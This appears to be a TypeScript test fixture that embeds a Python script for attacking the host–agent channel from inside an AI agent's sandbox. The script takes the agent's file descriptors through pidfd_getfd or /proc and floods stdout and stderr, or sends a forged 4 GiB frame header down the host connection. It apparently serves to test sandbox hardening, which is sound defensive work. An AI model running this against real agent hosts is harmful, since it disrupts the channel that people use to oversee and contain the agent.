/**
 * Attacks on the host–agent channel, run INSIDE a sandbox as an ordinary command
 * (python3, as a model could run it). The command is a child of the agent and runs as
 * the same user. It asks pidfd_getfd for the agent's descriptors (the seccomp filter
 * refuses it: EPERM), then opens them through /proc/<agent>/fd (a pipe would open so
 * while the agent is dumpable; but its stdout/stderr are sockets under Node, a socket
 * never opens so, and on Bun the agent is not dumpable):
 *
 *   stdio <MiB>  takes the agent's stdout and stderr (what the host read after
 *                start-up) and writes <MiB> MiB into each; prints per fd what happened.
 *   frame <MiB>  takes the host's connection for the running request (a socket of the
 *                agent's that is not in the sandbox's own /proc/net/unix, since the
 *                host made it, and is not its stdout/stderr), sends a frame header
 *                declaring 4 GiB, then <MiB> MiB of body.
 *
 * Run it with `exec python3 ...` so that its parent is the agent.
 */
export const ATTACK_PATH = "/tmp/channel-attack.py";

export const ATTACK_PY = String.raw`
import ctypes, errno, os, sys
libc = ctypes.CDLL(None, use_errno=True)
agent = os.getppid()
pidfd = libc.syscall(434, agent, 0)  # pidfd_open
if pidfd < 0:
    print("pidfd_open failed", errno.errorcode.get(ctypes.get_errno())); sys.exit(2)

def steal(fd):
    got = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
    if got >= 0: return got
    why = "pidfd_getfd " + errno.errorcode.get(ctypes.get_errno(), "?")
    try: return os.open("/proc/%d/fd/%d" % (agent, fd), os.O_WRONLY)
    except OSError as e: raise OSError(e.errno, "refused (%s, /proc open %s)" % (why, errno.errorcode.get(e.errno, e.errno)))

def inode(fd):
    try: link = os.readlink("/proc/%d/fd/%d" % (agent, fd))
    except OSError: return None
    return link[8:-1] if link.startswith("socket:[") else None

def flood(fd, mib, head=b""):
    os.set_blocking(fd, True)
    chunk = b"x" * (1 << 20)
    sent = 0
    try:
        if head: os.write(fd, head)
        while sent < mib << 20: sent += os.write(fd, chunk)
        return "wrote %d" % sent
    except OSError as e:
        return "%s after %d" % (errno.errorcode.get(e.errno, e.errno), sent)

mode, mib = sys.argv[1], int(sys.argv[2])
if mode == "stdio":
    for fd in (1, 2):
        try: print("fd%d %s" % (fd, flood(steal(fd), mib)), flush=True)
        except OSError as e: print("fd%d %s" % (fd, e), flush=True)
elif mode == "frame":
    try:
        local = set(line.split()[6] for line in open("/proc/net/unix").read().splitlines()[1:])
        stdio = {inode(1), inode(2)}
        fds = [int(n) for n in os.listdir("/proc/%d/fd" % agent)]
        host = [fd for fd in fds if inode(fd) and inode(fd) not in local and inode(fd) not in stdio]
    except OSError as e:
        # The agent's descriptors cannot even be listed (not dumpable): try every low number.
        print("listing refused", errno.errorcode.get(e.errno, e.errno), flush=True)
        host = list(range(3, 64))
    if not host: print("no host connection found"); sys.exit(3)
    for fd in host:
        try: r = flood(steal(fd), mib, b"X\xff\xff\xff\xff")
        except OSError as e: r = str(e)
        print("conn %d %s" % (fd, r), flush=True)
`;
